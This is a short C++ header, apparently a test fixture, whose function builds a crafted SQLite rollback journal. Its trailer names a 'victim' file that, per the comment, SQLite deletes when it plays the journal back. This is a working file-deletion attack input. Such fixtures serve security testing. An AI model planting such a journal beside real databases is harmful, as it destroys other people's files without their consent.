// A rollback journal as somebody who may write beside a database could make it: it names a file
// that SQLite is to remove when the journal has been played back.
#pragma once

#include <numeric>
#include <string>

inline std::string HostileJournal(const std::string& victim)
{
    const std::string magic = "\xd9\xd5\x05\xf9\x20\xa1\x63\xd7";
    const auto number = [](unsigned value) {
        std::string bytes;
        for (const unsigned shift : {24U, 16U, 8U, 0U}) {
            bytes += static_cast<char>(value >> shift & 0xffU);
        }
        return bytes;
    };
    // No pages to play back, of a database of no page; sectors of 512 bytes, pages of 4096.
    std::string header = magic + number(0) + number(0) + number(0) + number(512) + number(4096);
    header.resize(512);
    const unsigned sum =
        std::accumulate(victim.begin(), victim.end(), 0U,
                        [](unsigned all, char c) { return all + static_cast<unsigned char>(c); });
    return header + number(0x40000000 / 4096 + 1) + victim +
           number(static_cast<unsigned>(victim.size())) + number(sum) + magic;
}
